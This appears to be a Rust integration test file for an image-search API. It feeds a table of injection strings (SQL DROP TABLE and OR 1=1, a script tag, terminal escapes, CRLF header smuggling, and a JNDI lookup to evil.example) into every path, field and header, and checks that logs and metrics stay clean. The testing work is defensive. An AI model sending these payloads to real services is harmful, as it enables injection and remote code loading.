//! Text that is a statement, a page, a terminal's command or a line break to somebody: in every
//! place that takes text, over both databases.

use std::fmt::Write;

use serde_json::{Value, json};

use super::{Answer, Case, get, http, limit, paths, post, request, server, with_pictures, withstands};
use crate::program::{Program, Server};
use crate::support::Place;
use crate::support::app::{TestApp, images, ok, search};
use crate::support::raw::exchange;

const TEXTS: [(&str, &str); 10] = [
    ("SQL", "p1'; DROP TABLE images; --"),
    ("a condition in SQL", "p1' OR '1'='1"),
    ("wildcards of SQL", "p%_\\"),
    ("HTML", "\"><script>alert(1)</script>"),
    ("an escape sequence", "\u{1b}[2J\u{1b}]0;owned\u{7}"),
    ("an escape sequence in C1", "\u{9b}2J"),
    ("bidirectional marks", "\u{202e}gnp.\u{2066}p1"),
    ("a NUL", "p1\0"),
    ("a line break", "p1\r\nset-cookie: owned=1\r\n\r\n<script>"),
    ("a format and a template", "%s%n{{7*7}}${jndi:ldap://evil.example/}"),
];

fn encoded(text: &str) -> String {
    text.bytes().fold(String::new(), |mut written, byte| {
        write!(written, "%{byte:02X}").expect("memory");
        written
    })
}

fn searching(name: String, body: &Value, answer: Answer) -> Case {
    Case::new(name, post(&search(), "application/json", body.to_string().as_bytes()), answer)
}

pub(super) fn cases() -> Vec<Case> {
    let mut cases: Vec<Case> = TEXTS.iter().flat_map(|(what, text)| in_every_place(what, text)).collect();
    cases.extend(TEXTS.iter().flat_map(|(what, text)| in_every_header(what, text)));
    for (what, text) in TEXTS.iter().filter(|(_, text)| !text.is_ascii()) {
        for (times, place) in [(1, "as it is in a path"), (150, "150 times in a path")] {
            let target = images(&format!("/{}", text.repeat(times)));
            cases.push(Case::refused(format!("{what} {place}"), get(&target), 400, "invalid_image_id"));
        }
    }
    cases
}

fn in_every_place(what: &str, text: &str) -> Vec<Case> {
    let path = encoded(text);
    let refused = |place: &str, bytes: Vec<u8>, status: u16, code: &'static str| {
        Case::refused(format!("{what} as {place}"), bytes, status, code)
    };
    // The databases do not know it, so no filter takes it.
    let of_cursor = if text.contains('\0') { "invalid_request" } else { "invalid_cursor" };
    let of_filter = if text.contains('\0') { Answer::Code(400, "invalid_filter") } else { Answer::NothingFound };
    let filter = |place: &str, filter: Value| {
        searching(format!("{what} as {place}"), &json!({"id": "p1", "filter": filter}), of_filter)
    };
    let json = |target: &str, body: Value| post(target, "application/json", body.to_string().as_bytes());
    vec![
        refused("an id in a path", get(&images(&format!("/{path}"))), 400, "invalid_image_id"),
        refused("a collection in a path", get(&format!("/v1/collections/{path}")), 400, "invalid_collection_name"),
        refused("a job in a path", get(&format!("/v1/jobs/{path}")), 404, "unknown_job"),
        refused("a key in a path", get(&format!("/v1/keys/{path}")), 404, "unknown_key"),
        refused("a path", get(&format!("/{path}")), 404, "route_not_found"),
        refused("a cursor", get(&images(&format!("?cursor={path}"))), 400, of_cursor),
        refused("an order", get(&images(&format!("?sort={path}"))), 400, "invalid_request"),
        refused("a parameter", get(&images(&format!("?{path}=1"))), 400, "unknown_field"),
        refused(
            "the id of a new picture",
            json(&images(""), json!({"id": text, "image": "AAAA"})),
            400,
            "invalid_image_id",
        ),
        refused("the id of a search", json(&search(), json!({"id": text})), 400, "invalid_image_id"),
        refused("a field", json(&search(), json!({"id": "p1", text: 1})), 400, "unknown_field"),
        refused(
            "a profile",
            request(
                "PUT",
                "/v1/collections/new",
                &[b"content-type: application/json"],
                json!({"profile": text}).to_string().as_bytes(),
            ),
            400,
            "invalid_request",
        ),
        refused("a version", json(&search(), json!({"descriptor": [1], "version": text})), 400, "invalid_version"),
        filter("the value of a filter", json!({"field": "seed", "eq": text})),
        filter("the beginning in a filter", json!({"field": "seed", "prefix": text})),
        filter("a list in a filter", json!({"field": "seed", "in": [text]})),
        filter("the field of a filter", json!({"field": format!("a{text}"), "eq": 1})),
    ]
}

/// Whether a header's value may have it.
fn is_line(text: &str) -> bool {
    !text.chars().any(|c| c.is_ascii_control())
}

fn in_every_header(what: &str, text: &str) -> Vec<Case> {
    // Who reads heads refuses what none may have; a line break makes several headers.
    let headers = |place: &str, method: &str, target: &str, header: &str, answer: Answer| {
        let line = format!("{header}: {text}");
        let answer = if is_line(text) { answer } else { Answer::Bare(400) };
        Case::new(format!("{what} as {place}"), request(method, target, &[line.as_bytes()], b""), answer)
    };
    if text.contains('\n') {
        return Vec::new();
    }
    let list = "/v1/collections";
    // A name of graphic characters is one; then there is no picture.
    let of_name = if text.bytes().all(|byte| byte.is_ascii_graphic()) {
        Answer::Code(415, "unsupported_media_type")
    } else {
        Answer::Code(400, "invalid_idempotency_key")
    };
    vec![
        headers("a request's id", "GET", list, "x-request-id", Answer::Fine(200)),
        headers("a browser's name", "GET", list, "user-agent", Answer::Fine(200)),
        headers("an address of a proxy", "GET", list, "x-forwarded-for", Answer::Fine(200)),
        headers("a condition", "DELETE", &images("/p1"), "if-match", Answer::Code(400, "invalid_precondition")),
        headers("a media type", "POST", &images(""), "content-type", Answer::Code(415, "unsupported_media_type")),
        headers("an origin", "PUT", "/v1/collections/new", "origin", Answer::Code(403, "cross_origin")),
        headers("an `Idempotency-Key`", "POST", &images(""), "idempotency-key", of_name),
    ]
}

async fn over(place: Place) {
    let mut builder = TestApp::builder().store(place.open().await);
    limit(&mut builder.config);
    let app = builder.start().await;
    with_pictures(&app).await;
    withstands(&app, &cases()).await;
    text_is_text(&app).await;
}

/// What may be any text comes back as it was sent, and is found as it is.
async fn text_is_text(app: &TestApp) {
    for (what, text) in TEXTS.iter().filter(|(_, text)| !text.contains('\0')) {
        let change = json!({"metadata": {"text": text, *text: [text]}});
        ok(app.patch(&images("/p1")).json(&change)).await;
        let expected = json!({"seed": 1, "text": text, *text: [text]});
        assert_eq!(ok(app.get(&images("/p1"))).await["metadata"], expected, "{what}");
        let filter = json!({"all": [{"field": "text", "eq": text}, {"field": "text", "prefix": text}]});
        let counted = ok(app.get(&images(":count")).query(&[("filter", &filter.to_string())])).await;
        assert_eq!(counted["count"], 1, "{what}");
        let described = json!({"description": text});
        let collection = ok(app.patch("/v1/collections/default").json(&described)).await;
        assert_eq!(collection["description"], *text, "{what}");
        let rest = ok(app.patch(&images("/p1")).json(&json!({"metadata": {"text": null, *text: null}}))).await;
        assert_eq!(rest["metadata"], json!({"seed": 1}), "{what}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_text_is_answered_as_the_table_says_over_sqlite() {
    over(Place::sqlite()).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_text_is_answered_as_the_table_says_over_postgres() {
    over(Place::postgres().await).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn no_metric_has_hostile_text() {
    let app = server().await;
    for case in cases() {
        exchange(app.address, &case.bytes, case.cut).await;
    }
    let metrics = app.get("/metrics").send().await.expect("answer").text().await.expect("text");
    for text in ["DROP", "<script", "owned", "jndi", "\u{1b}", "\u{9b}", "\u{202e}", "%1B", "1'='1"] {
        assert!(!metrics.contains(text), "{text:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn no_line_of_the_log_has_hostile_text_as_it_is() {
    let mut program = Program::new();
    program.set("RUST_LOG", "debug");
    for format in ["text", "json"] {
        let server = Server::start_with_log(&program, format);
        let address = server.address.parse().expect("an address");
        for case in cases().iter().chain(&http::cases()).chain(&paths::cases()) {
            exchange(address, &case.bytes, case.cut).await;
        }
        server.signal("TERM");
        let (code, log) = server.wait();
        assert_eq!(code, Some(0), "{log}");
        assert!(log.lines().count() > 100, "{log}");
        for (at, line) in log.lines().enumerate() {
            let raw = |c: char| {
                c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c) || ('\u{2066}'..='\u{2069}').contains(&c)
            };
            assert!(!line.chars().any(raw), "{format}, line {at}: {line:?}");
            assert!(!line.starts_with("set-cookie"), "{format}, line {at}: {line:?}");
        }
    }
}
